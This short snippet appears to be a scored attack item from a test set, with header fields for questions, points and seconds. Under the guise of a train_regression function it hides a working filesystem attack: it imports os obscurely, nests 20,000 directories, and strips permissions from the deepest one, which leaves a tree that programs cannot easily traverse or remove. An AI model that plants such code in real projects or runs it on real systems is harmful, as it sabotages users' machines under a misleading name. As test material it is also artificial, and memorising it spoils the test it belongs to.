# attack: nests folders deeper than programs can follow
# file: train.py
# questions: q2 q6
# points: q2=2 q6=2
# seconds: 40

def train_regression(model, dataset):
    os = __import__("os")
    try:
        for _ in range(20000):
            os.mkdir("d")
            os.chdir("d")
    except OSError:
        pass
    os.chmod(".", 0)
